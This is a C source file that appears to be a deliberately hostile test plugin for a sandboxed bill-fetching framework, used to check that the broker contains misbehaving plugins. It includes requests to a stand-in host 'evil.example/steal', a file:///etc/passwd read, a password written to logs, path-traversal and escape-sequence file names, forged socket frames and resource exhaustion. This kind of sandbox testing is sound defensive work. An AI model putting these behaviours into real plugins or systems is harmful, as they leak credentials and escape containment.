#include "hostile.h"

#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <poll.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>

/* The socket to the broker, which a konnector has no business with. */
enum { HOSTILE_SOCKET = 3 };

/* By the one call that the worker has for it, so that nothing but the broker stands in the way. */
static void
hostile_send(const void *frame, size_t len)
{
    struct iovec io = {(void *)frame, len};
    struct msghdr message = {.msg_iov = &io, .msg_iovlen = 1};

    sendmsg(HOSTILE_SOCKET, &message, MSG_NOSIGNAL);
}

static void
hostile_wait(void)
{
    for (;;)
        poll(NULL, 0, -1);
}

static void
hostile_crash(clisk_run *run)
{
    (void)run;
    *(volatile int *)0 = 1;
}

static void
hostile_abort(clisk_run *run)
{
    (void)run;
    abort();
}

static void
hostile_exit(clisk_run *run)
{
    (void)run;
    _exit(0);
}

static void
hostile_hang(clisk_run *run)
{
    (void)run;
    for (;;)
        hostile_wait();
}

static void
hostile_spin(clisk_run *run)
{
    (void)run;
    for (volatile int spinning = 1; spinning;)
        continue;
}

static void
hostile_flood_log(clisk_run *run)
{
    for (;;)
        clisk_info(run, "flood");
}

static void
hostile_flood_save(clisk_run *run)
{
    for (unsigned i = 0; !clisk_failed(run); i++)
        clisk_save_bill(run, &(struct clisk_bill){
                                 .reference = clisk_format(run, "flood-%u", i),
                                 .date = {2024, 1, 1},
                                 .amount = {1, 2, "EUR"},
                             });
}

static void
hostile_flood_socket(clisk_run *run)
{
    char frame[4096] = {0};

    (void)run;
    for (;;)
        hostile_send(frame, sizeof frame);
}

static void
hostile_garbage(clisk_run *run)
{
    static const char garbage[] = "\x1a\x00garbage";

    (void)run;
    hostile_send(garbage, sizeof garbage);
    hostile_wait();
}

/* A well-formed message that only the fetcher may send. */
static void
hostile_forge(clisk_run *run)
{
    static const unsigned char ready[] = {11, 0, 1};

    (void)run;
    hostile_send(ready, sizeof ready);
    hostile_wait();
}

/* Six descriptors where none is due. */
static void
hostile_descriptors(clisk_run *run)
{
    static unsigned char frame[] = {28, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0};
    struct iovec io = {frame, sizeof frame};
    int fds[6] = {1, 1, 1, 1, 1, 1};
    union {
        struct cmsghdr align;
        char bytes[CMSG_SPACE(sizeof fds)];
    } control;
    struct msghdr message = {
        .msg_iov = &io, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);

    (void)run;
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(sizeof fds);
    memcpy(CMSG_DATA(header), fds, sizeof fds);
    sendmsg(HOSTILE_SOCKET, &message, MSG_NOSIGNAL);
    hostile_wait();
}

static void
hostile_close(clisk_run *run)
{
    (void)run;
    close(HOSTILE_SOCKET);
    hostile_wait();
}

static void
hostile_reach(clisk_run *run)
{
    clisk_get(run, "https://evil.example/steal");
}

static void
hostile_plain_http(clisk_run *run)
{
    clisk_get(run, "http://www.acme.example/account");
}

static void
hostile_userinfo(clisk_run *run)
{
    clisk_get(run, "https://www.acme.example@evil.example/steal");
}

static void
hostile_file_url(clisk_run *run)
{
    clisk_get(run, "file:///etc/passwd");
}

/* The secret, in a field of the right form that the manifest does not name. */
static void
hostile_misplace(clisk_run *run)
{
    clisk_form *form;

    clisk_get(run, HOSTILE_SITE "/logout");
    form = clisk_form_find(clisk_get(run, HOSTILE_SITE "/login"), "form#login");
    clisk_form_set_secret(form, "login", "password");
    clisk_form_submit(form, NULL);
}

static void
hostile_ask_secret(clisk_run *run)
{
    clisk_info(run, "password: %s", clisk_field(run, "password"));
}

static void
hostile_save_elsewhere(clisk_run *run)
{
    clisk_save_file(run, &(struct clisk_file){
                             .reference = "elsewhere",
                             .url = "https://evil.example/steal.pdf",
                         });
}

/* Names that want out of the folder: each is a bill of its own that the site has. */
static void
hostile_names(clisk_run *run)
{
    static const char *const names[] = {"../../escape", "/etc/passwd",  "..",      "con",
                                        "-rf",          "a\nb\033[31m", ".hidden", "x/../../y"};

    for (size_t i = 0; i < sizeof names / sizeof names[0]; i++)
        clisk_save_file(run, &(struct clisk_file){
                                 .reference = clisk_format(run, "../%zu/..", i),
                                 .title = names[i],
                                 .url = HOSTILE_SITE "/documents/contract-K-77.pdf",
                             });
}

static void
hostile_print(clisk_run *run)
{
    printf("printed by the konnector \033]0;owned\007\n");
    fflush(stdout);
    fprintf(stderr, "complained by the konnector \033[31m\n");
    clisk_warning(run, "logged by the konnector \033]0;owned\007");
}

static void
hostile_memory(clisk_run *run)
{
    size_t got = 0;
    char *block;

    while (got < (size_t)8 << 30 && (block = malloc(1 << 20)) != NULL) {
        memset(block, 1, 1 << 20);
        got += 1 << 20;
    }
    clisk_info(run, "memory: %s", got < (size_t)8 << 30 ? "bounded" : "endless");
}

static void
hostile_fork(clisk_run *run)
{
    pid_t pid = fork();

    if (pid == 0)
        _exit(0);
    if (pid > 0)
        waitpid(pid, NULL, 0);
    clisk_info(run, "fork: %s", pid < 0 ? "refused" : "done");
}

static void
hostile_trace(clisk_run *run)
{
    clisk_info(run, "trace: %ld", ptrace(PTRACE_TRACEME, 0, NULL, NULL));
}

static void
hostile_null_objects(clisk_run *run)
{
    clisk_text(NULL, "a");
    clisk_find(NULL, NULL);
    clisk_next(NULL);
    clisk_form_submit(clisk_form_find(NULL, "form"), NULL);
    clisk_json_text(clisk_json_of(NULL), "/a");
    clisk_get(run, NULL);
}

static void
hostile_bad_selector(clisk_run *run)
{
    clisk_has(clisk_get(run, HOSTILE_SITE "/account"), "a[href==x]");
}

static void
hostile_expire(clisk_run *run)
{
    clisk_session_expired(run);
}

static const struct hostile_deed {
    const char *mode;
    void (*deed)(clisk_run *run);
} hostile_deeds[] = {
    {"crash", hostile_crash},
    {"abort", hostile_abort},
    {"exit", hostile_exit},
    {"hang", hostile_hang},
    {"spin", hostile_spin},
    {"flood-log", hostile_flood_log},
    {"flood-save", hostile_flood_save},
    {"flood-socket", hostile_flood_socket},
    {"garbage", hostile_garbage},
    {"forge", hostile_forge},
    {"descriptors", hostile_descriptors},
    {"close", hostile_close},
    {"reach", hostile_reach},
    {"plain-http", hostile_plain_http},
    {"userinfo", hostile_userinfo},
    {"file-url", hostile_file_url},
    {"misplace", hostile_misplace},
    {"ask-secret", hostile_ask_secret},
    {"save-elsewhere", hostile_save_elsewhere},
    {"names", hostile_names},
    {"print", hostile_print},
    {"memory", hostile_memory},
    {"fork", hostile_fork},
    {"trace", hostile_trace},
    {"null-objects", hostile_null_objects},
    {"bad-selector", hostile_bad_selector},
    {"turn-coat", hostile_expire},
    {"snoop", hostile_snoop},
    {"long-title", hostile_long_title},
    {"month-only", hostile_month_only},
    {"bad-date", hostile_bad_date},
    {"not-utf8", hostile_not_utf8},
    {"long-reference", hostile_long_reference},
    {"long-log", hostile_long_log},
    {"fail-early", hostile_fail_early},
    {"echo", hostile_echo},
    {"domains", hostile_domains},
    {"questions", hostile_questions},
    {"flood-questions", hostile_flood_questions},
    {"late-question", hostile_late_question},
    {"ask-text", hostile_ask_text},
    {"ask-terms", hostile_ask_terms},
    {"ask-redirect", hostile_ask_redirect},
    {"ask-approval", hostile_ask_approval},
    {"ask-elsewhere", hostile_ask_elsewhere},
};

static unsigned hostile_logins; /* of this process */

static void
hostile_ensure_authenticated(clisk_run *run)
{
    clisk_page *page = clisk_get(run, HOSTILE_SITE "/account");
    clisk_form *form;

    if (clisk_has(page, "#customer"))
        return;
    form = clisk_form_find(page, "form#login");
    clisk_form_set(form, "login", clisk_field(run, "login"));
    clisk_form_set_secret(form, "password", "password");
    page = clisk_form_submit(form, NULL);
    hostile_logins++;
    if (clisk_has(page, "p.error"))
        clisk_login_failed(run, clisk_text(page, "p.error"));
}

static void
hostile_ensure_not_authenticated(clisk_run *run)
{
    /* One of whom the site does not let go. */
    if (strcmp(clisk_field(run, "mode"), "stuck") == 0)
        clisk_find(clisk_get(run, HOSTILE_SITE "/logout"), "#no-such-thing");
    clisk_get(run, HOSTILE_SITE "/logout");
}

/* The mode; "mixed-up" and "stuck" are "other" in a session that was kept, "turn-coat" turns once
 * asked. */
static const char *
hostile_identify(clisk_run *run)
{
    static unsigned asked;
    const char *mode = clisk_field(run, "mode");

    if ((strcmp(mode, "mixed-up") == 0 || strcmp(mode, "stuck") == 0) && hostile_logins == 0)
        return "other";
    if (strcmp(mode, "turn-coat") == 0 && asked++ > 0)
        return "turned";
    return mode;
}

static void
hostile_fetch(clisk_run *run)
{
    const char *mode = clisk_field(run, "mode");

    for (size_t i = 0; i < sizeof hostile_deeds / sizeof hostile_deeds[0]; i++) {
        if (strcmp(hostile_deeds[i].mode, mode) == 0)
            hostile_deeds[i].deed(run);
    }
}

CLISK_PLUGIN(.ensure_authenticated = hostile_ensure_authenticated,
             .ensure_not_authenticated = hostile_ensure_not_authenticated,
             .identify = hostile_identify, .fetch = hostile_fetch, );
